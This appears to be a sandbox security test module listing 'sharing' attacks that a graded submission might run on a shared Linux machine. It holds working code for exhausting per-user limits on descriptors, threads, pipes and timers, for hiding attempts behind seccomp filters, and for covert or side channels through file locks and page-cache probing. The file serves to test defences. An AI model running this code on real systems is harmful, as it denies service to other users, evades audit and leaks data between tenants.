"""Sharing: what all submissions of a machine have in common, used up or used to talk."""

from __future__ import annotations

from typing import Any

from tests.attacks.attack import Attack, beside

BY_NUMBER = """
import ctypes, errno, fcntl, os, platform, socket, struct, sys
if platform.machine() != "x86_64": raise OSError(errno.ENOSYS, "the numbers below are another machine's")
libc = ctypes.CDLL(None, use_errno=True)
def call(number, *arguments):
    words = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    result = libc.syscall(ctypes.c_long(number), *words)
    if result < 0: raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result
"""
"""Calls of the kernel without the C library's own ideas of them."""

MESSAGE = """
carried = (ctypes.c_int * 253)(*[1] * 253)
control = struct.pack("@QII", 16 + ctypes.sizeof(carried), 1, 1) + bytes(carried)
control = ctypes.create_string_buffer(control, (len(control) + 7) // 8 * 8)
byte = ctypes.create_string_buffer(b"x")
part = (ctypes.c_ulong * 2)(ctypes.addressof(byte), 1)
head = (ctypes.c_ulong * 8)(0, 0, ctypes.addressof(part), 1, ctypes.addressof(control), len(control), 0, 0)
pairs = []
"""
"""A message that carries 253 descriptors, as sendmsg(2) wants it: `head`."""

LIBRARY = "open(os.__file__)"
"""A file that every submission reads."""


def sharing(name: str, mechanism: str, code: str, gain: str, **others: Any) -> Attack:
    """An attack after the right answer to `blur`."""
    standard: dict[str, Any] = {
        "family": "sharing",
        "gain": gain,
        "effect": "boast",
        "incident": "sandbox-refusal",
        "shown_in": "no sandbox",
        "needs": "sandbox",
    }
    return Attack(
        name=name,
        mechanism=mechanism,
        cells=beside("blur", f"{BY_NUMBER}\n{code}"),
        **{**standard, **others},
    )


def told(name: str, mechanism: str, code: str, gain: str, **others: Any) -> Attack:
    """One by which a submission could tell another something; of its attempts nothing is to be seen."""
    return sharing(name, mechanism, code, gain, **{"incident": None, **others})


ATTACKS: tuple[Attack, ...] = (
    sharing(
        "files-in-flight",
        "It sends hundreds of descriptors through a pair of sockets and receives none: Linux counts"
        " them for the user, and lets no other process of that user send any.",
        """
pairs = [socket.socketpair() for _ in range(3)]
for one, other in pairs: socket.send_fds(one, [b"x"], [1] * 253)
import time
time.sleep(0.5)
@BOAST@
""",
        "a class in which nobody else can be graded",
    ),
    sharing(
        "files-in-flight-by-number",
        "The same below Python, by the number of the call (sendmsg).",
        f"""{MESSAGE}
for _ in range(3):
    pairs.append(socket.socketpair())
    call(46, pairs[-1][0].fileno(), ctypes.addressof(head), 0)
@BOAST@
""",
        "a class in which nobody else can be graded",
    ),
    sharing(
        "files-in-flight-in-one-call",
        "The same with many messages in one call (sendmmsg).",
        f"""{MESSAGE}
pairs.append(socket.socketpair())
many = (ctypes.c_ulong * 24)(*[*head, *head, *head])
for place in (7, 15, 23): many[place] = 0
packed = b"".join(bytes(head)[:56] + bytes(8) for _ in range(3))
heads = ctypes.create_string_buffer(packed, len(packed))
if call(307, pairs[0][0].fileno(), ctypes.addressof(heads), 3, 0) == 3: @BOAST@
""",
        "a class in which nobody else can be graded",
    ),
    sharing(
        "sockets-in-flight",
        "Each of its pairs of sockets lies in the next one, and none is open any more: only the"
        " kernel's own search for them could free them.",
        """
inner = socket.socketpair()
for _ in range(300):
    outer = socket.socketpair()
    socket.send_fds(outer[0], [b"x"], [s.fileno() for s in inner])
    for s in inner: s.close()
    inner = outer
@BOAST@
""",
        "a class in which nobody else can be graded",
    ),
    sharing(
        "files-in-flight-from-a-thread",
        "Threads hold what is in flight, after the cell is done.",
        """
import threading
held, done = [], threading.Event()
def hold():
    held.append(socket.socketpair())
    socket.send_fds(held[-1][0], [b"x"], [1] * 253)
    if len(held) == 3: done.set()
for _ in range(3): threading.Thread(target=hold, daemon=True).start()
if done.wait(0.5): @BOAST@
""",
        "a class in which nobody else can be graded",
    ),
    sharing(
        "queues-of-the-kernel",
        "It has the kernel keep queues for reading and writing (io_setup): there is a number of them"
        " for the whole machine.",
        """
queue = ctypes.create_string_buffer(8)
call(206, 1, ctypes.addressof(queue))
@BOAST@
""",
        "databases of the machine that cannot start",
    ),
    sharing(
        "threads-below-python",
        "It starts threads without stacks by the number of the call (clone), thousands of them before"
        " anybody looks.",
        """
import mmap
# mov eax, 56 (clone); syscall; test rax, rax; jz on; ret; on: mov eax, 34 (pause); syscall; jmp on
code = bytes.fromhex("b838000000 0f05 4885c0 7401 c3 b822000000 0f05 ebf7")
private = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS
page = mmap.mmap(-1, 4096, flags=private, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(code)
stack = mmap.mmap(-1, 1 << 16, flags=private)
start = ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * 4)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
top = ctypes.addressof(ctypes.c_char.from_buffer(stack)) + (1 << 15)
for number in range(1000):
    if start(0x10F00, top, 0, 0) < 0: break
else: @BOAST@
""",
        "all threads that a user or the machine can have",
        points=(0.0, 2.0, 2.0, 1.0),
        incident="task-limit",
    ),
    sharing(
        "filter-of-its-own",
        "It adds a filter of calls whose errors come before the sandbox's own (prctl), and then tries"
        " what nobody is to hear of.",
        """
filter = struct.pack("=HBBIHBBIHBBIHBBI", 0x20, 0, 0, 0, 0x15, 0, 1, 41, 6, 0, 0, 0x50061, 6, 0, 0, 0x7FFF0000)
held = ctypes.create_string_buffer(filter, len(filter))
head = struct.pack("@HxxxxxxQ", 4, ctypes.addressof(held))
libc.prctl(38, *map(ctypes.c_ulong, (1, 0, 0, 0)))
call(157, 22, 2, head, 0, 0)
try: socket.socket()
except OSError as error:
    if error.errno == 0x61: @BOAST@
""",
        "attempts of which staff read nothing",
    ),
    sharing(
        "filter-that-asks-another",
        "It adds a filter and has itself asked what is to be done (seccomp).",
        """
filter = struct.pack("=HBBI", 6, 0, 0, 0x7FFF0000)
held = ctypes.create_string_buffer(filter, len(filter))
head = struct.pack("@HxxxxxxQ", 1, ctypes.addressof(held))
libc.prctl(38, *map(ctypes.c_ulong, (1, 0, 0, 0)))
call(317, 1, 8, head)
@BOAST@
""",
        "attempts of which staff read nothing",
        incident=None,
        refusable=True,  # somebody listens to this very process already, as in some containers
    ),
    sharing(
        "idle-processors",
        "It has the scheduler let nobody else share its processor (PR_SCHED_CORE).",
        "call(157, 62, 1, 0, 0, 0)\n@BOAST@",
        "half of every processor",
        refusable=True,  # where the kernel has no such groups, or processors share nothing
    ),
    told(
        "lock-on-a-library",
        "It locks a file that every submission reads (flock): whether it is locked is a word to them.",
        f"""
mine, other = {LIBRARY}, {LIBRARY}
fcntl.flock(mine, fcntl.LOCK_EX)
try: fcntl.flock(other, fcntl.LOCK_EX | fcntl.LOCK_NB)
except BlockingIOError: @BOAST@
""",
        "answers from a submission that runs beside it",
    ),
    told(
        "locks-on-bytes-of-a-library",
        "It locks single bytes of such a file (F_SETLK), thousands of words at once.",
        f"""
mine, other = {LIBRARY}, {LIBRARY}
fcntl.lockf(mine, fcntl.LOCK_SH, 1, 7)
asked = struct.pack("@hhlli", fcntl.F_WRLCK, 0, 7, 1, 0)
if struct.unpack_from("@h", fcntl.fcntl(other, 36, asked))[0] == fcntl.F_RDLCK: @BOAST@
""",
        "answers from a submission that runs beside it",
    ),
    told(
        "locks-of-an-open-file",
        "It locks bytes for the open file and not for the process (F_OFD_SETLK).",
        f"""
mine, other = {LIBRARY}, {LIBRARY}
fcntl.fcntl(mine, 37, struct.pack("@hhlli", fcntl.F_RDLCK, 0, 9, 1, 0))
asked = struct.pack("@hhlli", fcntl.F_WRLCK, 0, 9, 1, 0)
if struct.unpack_from("@h", fcntl.fcntl(other, 36, asked))[0] == fcntl.F_RDLCK: @BOAST@
""",
        "answers from a submission that runs beside it",
    ),
    told(
        "read-only-what-is-there",
        "It reads of a library's file only what lies in memory (RWF_NOWAIT), which others' reading"
        " decides.",
        f"""
file = {LIBRARY}
file.read()
try: got = os.preadv(file.fileno(), [bytearray(10)], 0, os.RWF_NOWAIT)
except BlockingIOError: got = 1
if got: @BOAST@
""",
        "answers from a submission that has run before",
    ),
    told(
        "ask-what-is-there",
        "It asks how much of a library's file lies in memory (cachestat).",
        f"""
file, found = {LIBRARY}, (ctypes.c_ulong * 5)()
call(451, file.fileno(), (ctypes.c_ulong * 2)(0, 0), found, 0)
@BOAST@
""",
        "answers from a submission that has run before",
        refusable=True,  # a kernel before 6.5 has no such call
    ),
    told(
        "ask-which-pages-are-there",
        "It asks which pages of a mapped library's file lie in memory (mincore).",
        """
file = open(os.__file__)
libc.mmap.restype = ctypes.c_void_p
place = libc.mmap(None, ctypes.c_ulong(4096), 1, 2, file.fileno(), ctypes.c_long(0))
pages = ctypes.create_string_buffer(1)
call(27, place, 4096, pages)
@BOAST@
""",
        "answers from a submission that has run before",
    ),
    told(
        "throw-out-what-is-there",
        "It has the kernel forget what it keeps of a file (fadvise).",
        """
with open("kept", "wb") as file:
    file.write(bytes(1 << 20)); file.flush(); os.fsync(file.fileno())
with open("kept", "rb") as file:
    os.posix_fadvise(file.fileno(), 0, 0, os.POSIX_FADV_DONTNEED)
    found = (ctypes.c_ulong * 5)()
    call(451, file.fileno(), (ctypes.c_ulong * 2)(0, 0), found, 0)
    if not found[0]: @BOAST@
""",
        "words to those who run after it, and libraries that are slow for all",
        refusable=True,  # a file system that lies in memory, or a kernel without cachestat
    ),
    told(
        "processors-of-another",
        "It reads on which processors another process may run (sched_getaffinity).",
        "os.sched_getaffinity(@VICTIM@)\n@BOAST@",
        "answers from a submission that runs beside it",
    ),
    told(
        "turn-of-another",
        "It reads how the scheduler treats another process (getpriority, sched_getscheduler).",
        """
for ask in (lambda: os.getpriority(os.PRIO_PROCESS, @VICTIM@), lambda: os.sched_getscheduler(@VICTIM@)):
    try:
        ask()
        @BOAST@
    except OSError: pass
""",
        "answers from a submission that runs beside it",
    ),
    told(
        "group-of-another",
        "It asks for another process's group: whether there is such a process is a word to it.",
        "os.getpgid(@VICTIM@)\n@BOAST@",
        "answers from a submission that runs beside it",
    ),
    told(
        "merged-pages",
        "It has the kernel look for equal pages in other processes, which are written to more slowly.",
        """
import mmap
mine = mmap.mmap(-1, 1 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
mine.madvise(12)
@BOAST@
""",
        "to know what another submission has in its memory",
        refusable=True,  # a kernel that merges no pages
    ),
    told(
        "clock-of-another",
        "It reads how much time another process has used, from a clock with that process's number.",
        "import time\ntime.clock_gettime(~@VICTIM@ << 3 | 2)\n@BOAST@",
        "answers from a submission that runs beside it",
    ),
    told(
        "large-pipes",
        "It makes its pipes as large as they may be: those of its user are small from then on.",
        """
for _ in range(8):
    reading, writing = os.pipe()
    fcntl.fcntl(writing, 1031, 1 << 20)
@BOAST@
""",
        "graders that are slow",
    ),
    told(
        "timers",
        "It sets up timers by the thousand, each of which keeps a signal of its user's ready.",
        """
event = struct.pack("@lii", 0, 10, 0) + bytes(48)
for number in range(2000): call(222, 1, event, ctypes.create_string_buffer(8))
@BOAST@
""",
        "a user that can be sent no signal any more",
    ),
)
